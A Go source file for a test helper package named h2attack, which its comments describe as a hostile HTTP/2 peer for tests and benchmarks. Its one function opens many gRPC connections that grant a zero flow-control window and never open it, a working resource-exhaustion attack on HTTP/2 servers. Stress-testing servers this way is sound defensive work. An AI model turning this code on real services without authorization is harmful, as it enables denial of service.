// Package h2attack is a hostile HTTP/2 peer for tests and benchmarks: a
// client that grants no flow-control window.
package h2attack

import (
	"bytes"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ZeroWindowGRPC opens conns cleartext HTTP/2 connections to addr that
// grant no flow-control window (SETTINGS_INITIAL_WINDOW_SIZE = 0) and
// sends calls unary gRPC calls to method on each (headers, an empty
// message, END_STREAM), then reads and drops every frame and never opens
// a window. It returns a func that closes the connections.
func ZeroWindowGRPC(addr, method string, conns, calls int) (stop func(), err error) {
	var cs []net.Conn
	stop = func() {
		for _, c := range cs {
			c.Close()
		}
	}
	for range conns {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			stop()
			return nil, err
		}
		cs = append(cs, c)
		if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
			stop()
			return nil, err
		}
		fr := http2.NewFramer(c, c)
		fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for i := range calls {
			var hb bytes.Buffer
			enc := hpack.NewEncoder(&hb)
			for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", method},
				{"content-type", "application/grpc"}, {"te", "trailers"}} {
				enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
			}
			id := uint32(2*i + 1)
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
			fr.WriteData(id, true, []byte{0, 0, 0, 0, 0})
		}
		go func() {
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					return
				}
				if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
					fr.WriteSettingsAck()
				}
			}
		}()
	}
	return stop, nil
}
